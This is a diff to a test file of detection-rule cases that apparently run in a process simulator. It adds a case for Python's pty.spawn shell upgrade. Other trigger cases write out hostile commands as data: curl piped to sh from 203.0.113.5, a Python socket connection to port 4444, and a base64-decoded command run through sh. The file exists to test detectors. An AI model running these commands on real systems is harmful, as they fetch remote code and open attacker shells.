@@ -20,6 +20,20 @@ const mail = (s: Sim, dialogue: string): void => {
   s.connect(1, address, 25, -115);
   s.caughtMail(address, 25, dialogue);
 };
+/**
+ * python's pty.spawn('/bin/sh') as strace shows it: /dev/ptmx opened, the other end taken with
+ * TIOCGPTPEER, a child that starts a session and takes it as its terminal (TIOCSCTTY), then runs
+ * the shell. `takesTerminal` false: the child starts the session but never takes the terminal.
+ */
+const ptySpawn = (s: Sim, takesTerminal: boolean): void => {
+  const py = s.run('/usr/bin/python3', ['python3', '-c', 'import pty; pty.spawn("/bin/sh")']);
+  const master = s.open(py, '/dev/ptmx', O.rw);
+  s.sys(py, 'ioctl', [master, 0x5441, 0x102], master + 1);
+  const child = s.fork(py);
+  s.sys(child, 'setsid', [], child);
+  if (takesTerminal) s.sys(child, 'ioctl', [master + 1, 0x540e, 0], 0);
+  s.exec(child, '/bin/sh', ['/bin/sh']);
+};
 /** One process logs in to the FTP servers of `n` names, one after the other. */
 const ftpLogins = (s: Sim, n: number): void => {
   for (let i = 0; i < n; i++) {
@@ -35,6 +49,7 @@ const http = (method: string, path: string, host: string, body = ''): string =>
 export const CASES: RuleCase[] = [
   // execution
   { id: 'ST-EXE-001', trigger: (s) => sh(s, 'curl -fsSL http://203.0.113.5/x.sh | sh'), benign: (s) => sh(s, 'curl -fsSL http://203.0.113.5/x.sh -o x.sh') },
+  { id: 'ST-EXE-014', trigger: (s) => ptySpawn(s, true), benign: (s) => ptySpawn(s, false) },
   { id: 'ST-EXE-002', trigger: (s) => s.run('/usr/bin/python3', ['python3', '-c', 'import socket,os;s=socket.socket();s.connect(("203.0.113.5",4444))']),
     benign: (s) => s.run('/usr/bin/python3', ['python3', '-c', 'print(sum(range(10)))']) },
   { id: 'ST-EXE-003', trigger: (s) => sh(s, 'echo ZWNobyBoaQ== | base64 -d | sh'), benign: (s) => sh(s, 'base64 -d data.b64 > data.bin') },
